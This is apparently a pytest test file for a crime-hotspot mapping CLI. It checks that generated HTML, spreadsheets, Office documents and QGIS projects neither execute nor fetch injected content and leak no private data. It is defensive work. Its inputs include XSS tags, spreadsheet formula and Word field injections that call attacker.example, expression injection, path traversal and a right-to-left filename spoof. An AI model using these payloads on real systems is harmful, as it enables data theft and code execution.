"""A run whose every name is an attack, opened by Chromium, LibreOffice and QGIS: nothing runs, opens or leaks."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
from shapely import box

from hotspots_cli.main import run

SCRIPT = "</script><script>window.hacked = 1</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?" & 40 + 2, "Town")'
EXPRESSION = "[% 40 + 2 %]"
WARDS = [
    SCRIPT,
    FORMULA,
    EXPRESSION,
    '<img src="http://attacker.example/i.png" onerror="window.hacked = 1">',
    "@SUM(40+2)\r=40+2",
    "{ INCLUDETEXT http://attacker.example/x } ${40+2} {{40+2}}",
    "Line\u2028separator\u202egnp.exe",
    "' || eval('40+2') || '",
    "<svg onload='window.hacked = 1'>Ynys Môn 🏘️",
]
THEMES = [
    "CON",
    "../../up",
    "x" * 300,
    "🏘️",
    "犯罪",
    f"{SCRIPT} {EXPRESSION}",
    FORMULA,
]
RESIDENT = "Jane Roe, 12 Hidden Lane"
HEADER = "Crime ID,Month,Longitude,Latitude,LSOA code,Crime type,Context\n"


def toml(text: str) -> str:
    """Return a text as TOML holds it."""
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder that the run leaves, beside its inputs, below one with the name of a person."""
    top = tmp_path_factory.mktemp("ann.smith") / "home"
    top.mkdir()
    squares = [box(4e5 + 1000 * (i % 3), 33e4 + 1000 * (i // 3), 4.01e5 + 1000 * (i % 3), 33.1e4 + 1000 * (i // 3))
               for i in range(len(WARDS))]  # fmt: skip
    codes = [f"E0500000{i}" for i in range(len(WARDS))]
    columns = {"WD19CD": codes, "WD19NM": WARDS, "LAD19NM": [SCRIPT] * 5 + [FORMULA] * 4}
    gpd.GeoDataFrame(columns, geometry=squares, crs="EPSG:27700").to_file(top / "wards.geojson")
    (top / "people.csv").write_text("WD19CD,pop2019\n" + "".join(f"{code},1000\n" for code in codes))
    chance = np.random.default_rng(5)
    east, north = chance.uniform(-1.999, -1.957, 200), chance.uniform(52.868, 52.893, 200)
    kinds = ["Burglary", SCRIPT, FORMULA, EXPRESSION]
    with (top / "2025-01.csv").open("w", encoding="utf-8", newline="") as stream:
        stream.write(HEADER)
        rows = csv.writer(stream)
        for i, (x, y) in enumerate(zip(east, north, strict=True)):
            rows.writerow([f"{i}", "2025-01", x, y, "", kinds[i % 4], RESIDENT])
        rows.writerow(["bad", "2025-01", RESIDENT, RESIDENT, "", "Burglary", RESIDENT])
    words = toml(f"{SCRIPT} {EXPRESSION} {FORMULA}")
    recipe = [
        f"title = {words}\nsource = {words}\nattribution = {words}",
        f"[incidents]\nsource = {toml(str(top / '2025-01.csv'))}",
        f'[[areas]]\nlabel = "Wards"\nsource = {toml(str(top / "wards.geojson"))}\nnote = {words}',
        f"population_table = {toml(str(top / 'people.csv'))}",
        *(f"[[theme]]\nname = {toml(name)}" for name in THEMES),
        "[count]\n[flag]\n[map]",
        '[report]\nformats = ["html", "docx", "pptx"]',
    ]
    (top / "r.toml").write_text("\n".join(recipe), encoding="utf-8")
    assert run(["-q", "run", str(top / "r.toml"), "-o", str(top / "out")]) == 0
    assert sorted(path.name for path in top.iterdir()) == sorted(
        ["2025-01.csv", "out", "people.csv", "r.toml", "wards.geojson"]
    )
    return top / "out"


def words_in(path: Path) -> bytes:
    """Return a file's bytes, unpacked where it is an archive."""
    held = path.read_bytes()
    if not held.startswith(b"PK"):
        return held
    with zipfile.ZipFile(io.BytesIO(held)) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist())


def test_every_name_is_one_that_any_desk_can_hold(folder: Path) -> None:
    names = [path.name for path in folder.rglob("*")]
    assert len(names) > 50
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]{1,120}", name) for name in names), names
    assert not [name for name in names if name.split(".")[0].casefold() in ("con", "nul", "aux", "prn")]
    paths = [path.relative_to(folder).as_posix().casefold() for path in folder.rglob("*")]
    assert len(set(paths)) == len(paths)


def test_no_file_tells_where_it_was_made_or_what_a_row_said(folder: Path) -> None:
    told = {path.name: words_in(path) for path in folder.rglob("*") if path.is_file()}
    for secret in (RESIDENT, "Jane Roe", "ann.smith", str(folder.parent), os.environ.get("HOME", "/nobody")):
        assert [name for name, held in told.items() if secret.encode() in held] == [], secret


def test_no_cell_is_a_formula(folder: Path) -> None:
    for path in folder.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert cells
        risky = [
            cell for cell in cells if re.match(r"[=@+\t\r]|-(?![\d.])", cell) or re.search(r"[\r\n]", cell)
        ]
        assert risky == [], path.name
    with zipfile.ZipFile(folder / "tables.xlsx") as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets")]
    assert sheets
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet]


@pytest.mark.browser
@pytest.mark.parametrize("name", ["map.html", "report.html"])
def test_a_browser_runs_and_fetches_nothing_of_it(folder: Path, chromium: str, name: str) -> None:
    from playwright.sync_api import sync_playwright

    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium,
            args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * ~NOTFOUND"],
        )
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        troubles: list[str] = []
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.goto((folder / name).as_uri())
        page.wait_for_load_state()
        assert page.evaluate("window.hacked") is None
        assert troubles == []
        assert [url for url in asked if not url.startswith(("file:", "data:", "blob:"))] == []
        assert "window.hacked = 1" in page.locator("body").inner_text()
        assert page.locator("[onload], [onerror], a[href^=javascript], img[src^=http]").count() == 0
        assert "<script>window.hacked" in page.title()
        browser.close()


def test_an_office_shows_words_and_no_field_or_sum(folder: Path, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    command = [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    ward = next((folder / "tables").glob("con*_wards.csv"))
    shutil.copy(ward, tmp_path / "wards.csv")
    for kind, files in {
        "fods": [folder / "tables.xlsx", tmp_path / "wards.csv"],
        "txt:Text (encoded):UTF8": [folder / "report.docx"],
    }.items():
        subprocess.run(  # noqa: S603 - by path
            [*command, "--convert-to", kind, "--outdir", str(tmp_path), *map(str, files)],
            check=True,
            capture_output=True,
            timeout=120,
        )
    for name in ("tables.fods", "wards.fods"):
        opened = (tmp_path / name).read_text(encoding="utf-8")
        assert "=HYPERLINK(&quot;http://attacker.example" in opened
        assert "table:formula" not in opened
        assert "xlink:href" not in opened
    document = (tmp_path / "report.txt").read_text(encoding="utf-8")
    assert FORMULA in document
    assert EXPRESSION in document
    for name in ("report.docx", "report.pptx"):
        held = words_in(folder / name)
        assert b'TargetMode="External"' not in held
        assert not re.search(rb"<w:instrText[^>]*>[^<]*(INCLUDE|HYPERLINK|attacker)", held)


READ_PROJECT = """
import json, os, sys
from qgis.core import (QgsApplication, QgsExpression, QgsExpressionContext, QgsExpressionContextUtils,
                       QgsLayoutItemLabel, QgsProject)
app = QgsApplication([], False)
app.initQgis()
project = QgsProject.instance()
read = project.read(sys.argv[1])
told = {"read": read, "title": project.title(), "texts": [], "tips": [], "labels": [], "sources": []}
for node in project.layerTreeRoot().findLayers():
    layer = node.layer()
    told["sources"].append(layer.source())
    if not hasattr(layer, "getFeatures"):
        continue
    for feature in layer.getFeatures():
        context = QgsExpressionContext(QgsExpressionContextUtils.globalProjectLayerScopes(layer))
        context.setFeature(feature)
        told["tips"].append(QgsExpression.replaceExpressionText(layer.mapTipTemplate(), context))
        if layer.labeling():
            settings = layer.labeling().settings()
            if settings.isExpression:
                told["labels"].append(str(QgsExpression(settings.fieldName).evaluate(context)))
for page in project.layoutManager().printLayouts():
    told["texts"] += [item.currentText() for item in page.items() if isinstance(item, QgsLayoutItemLabel)]
print(json.dumps(told))
sys.stdout.flush()
os._exit(0)
"""


def test_qgis_evaluates_none_of_it(folder: Path, tmp_path: Path) -> None:
    python = shutil.which("python3", path=os.defpath) or "python3"
    tried = subprocess.run([python, "-c", "import qgis.core"], capture_output=True, check=False)  # noqa: S603
    if tried.returncode:
        pytest.skip("QGIS's Python package (python3-qgis) is not installed")
    kept = {name: value for name, value in os.environ.items() if not name.startswith("PYTHON")}
    done = subprocess.run(  # noqa: S603 - a fixed command
        [python, "-c", READ_PROJECT, str(folder / "hotspots.qgz")],
        env={
            **kept,
            "QT_QPA_PLATFORM": "offscreen",
            "QGIS_CUSTOM_CONFIG_PATH": str(tmp_path),
            "HOME": str(tmp_path),
        },
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    told = json.loads(done.stdout.splitlines()[-1])
    assert told["read"]
    assert EXPRESSION in told["title"]
    assert any(EXPRESSION in text for text in told["texts"])
    assert told["tips"]
    for kind in ("title", "texts", "tips", "labels"):
        said = json.dumps(told[kind])
        # What is evaluated would stand where the expression did.
        assert "</script> 42" not in said
        assert not re.search(r"(?<![\d.])42(?![\d.])", re.sub(r"40 ?\+ ?2", "", said)), kind
    assert all(source.split("|")[0].startswith(str(folder)) for source in told["sources"])
